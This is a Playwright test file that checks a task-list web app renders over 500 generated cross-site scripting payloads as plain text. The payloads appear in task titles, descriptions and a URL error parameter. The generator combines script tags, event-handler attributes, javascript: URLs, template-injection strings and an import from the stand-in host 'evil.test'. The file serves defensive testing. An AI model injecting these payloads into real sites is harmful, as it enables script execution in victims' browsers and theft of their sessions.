import type { Page } from '@playwright/test'
import { signUpOnOtherDevice } from './otherDevice.ts'
import { expect, test } from './testServer.ts'
import { testUserOn } from './testUser.ts'

// Code that runs if text is interpreted as markup, as a URL or as a script. Each one is observable.
const scripts = [
  'alert(1)',
  'confirm`1`',
  "window['al'+'ert'](1)",
  'top.hit=1',
  'import("//evil.test")',
]
const shapes: ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `"><img src=x onerror=${script}>`,
  (script) => `'><svg/onload=${script}>`,
  (script) => `</title><script>${script}</script>`,
  (script) => `</textarea><script>${script}</script>`,
  (script) => `<iframe srcdoc="<script>${script}</script>">`,
  (script) => `<iframe src="javascript:${script}">`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<body onload=${script}>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<video><source onerror=${script}>`,
  (script) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
  (script) => `<object data="data:text/html,<script>${script}</script>">`,
  (script) => `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${script})}">`,
  (script) => `<base href="javascript:${script}//">`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `<template><script>${script}</script></template>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script) => `<style>@import 'javascript:${script}'</style>`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `\${${script}}`,
]
const variants: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('ALERT', 'alert'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replace('<', '<\u0001'),
]
const payloads = shapes.flatMap((shape) =>
  scripts.flatMap((script) => variants.map((variant) => variant(shape(script)))),
)

test(`[T13] ${payloads.length} markup payloads in titles and descriptions are rendered as text`, async ({
  page,
  server,
}) => {
  test.slow()
  expect(payloads.length).toBeGreaterThanOrEqual(500)
  const email = 'markup@example.com'
  const otherDevice = await signUpOnOtherDevice(server.url, email)
  await otherDevice.addTasks(payloads.map((text) => ({ title: text, description: text })))
  const reports = await collectReports(page)

  await testUserOn(page).signIn(email)
  const list = page.getByRole('article')
  await expect(list.first()).toBeVisible()
  const seen = new Set<string>()
  for (let steps = 0; steps < 400 && seen.size < payloads.length; steps += 1) {
    for (const title of await list.getByRole('heading').allTextContents()) seen.add(title)
    await page.mouse.wheel(0, 1_500)
    const atEnd = await page.evaluate(() => scrollY + innerHeight >= document.body.scrollHeight - 2)
    if (atEnd) break
  }
  for (const title of await list.getByRole('heading').allTextContents()) seen.add(title)

  // The windowed list does not render every row while it is scrolled quickly.
  expect(seen.size).toBeGreaterThan(payloads.length / 2)
  expect([...seen].filter((title) => !payloads.includes(title))).toEqual([])
  expect(reports).toEqual([])
})

test('[T13] an error description from the URL is not shown', async ({ page }) => {
  const reports = await collectReports(page)
  for (const shape of shapes) {
    const payload = shape('alert(1)')
    await page.goto('about:blank')
    await page.goto(`/#error=access_denied&error_description=${encodeURIComponent(payload)}`)
    await expect(page.getByRole('alert')).toHaveText(
      'You were not signed in: the sign-in was refused or cancelled.',
    )
  }
  expect(reports).toEqual([])
})

/** Collects dialogs, scripts that ran and violations of the content security policy. */
async function collectReports(page: Page): Promise<string[]> {
  const reports: string[] = []
  page.on('dialog', (dialog) => {
    reports.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  await page.exposeFunction('report', (what: string) => reports.push(what))
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective, sample }) => {
      void Reflect.get(window, 'report')(`policy: ${violatedDirective} ${sample}`)
    })
    Object.defineProperty(window, 'hit', {
      set: () => void Reflect.get(window, 'report')('a script ran'),
    })
  })
  return reports
}
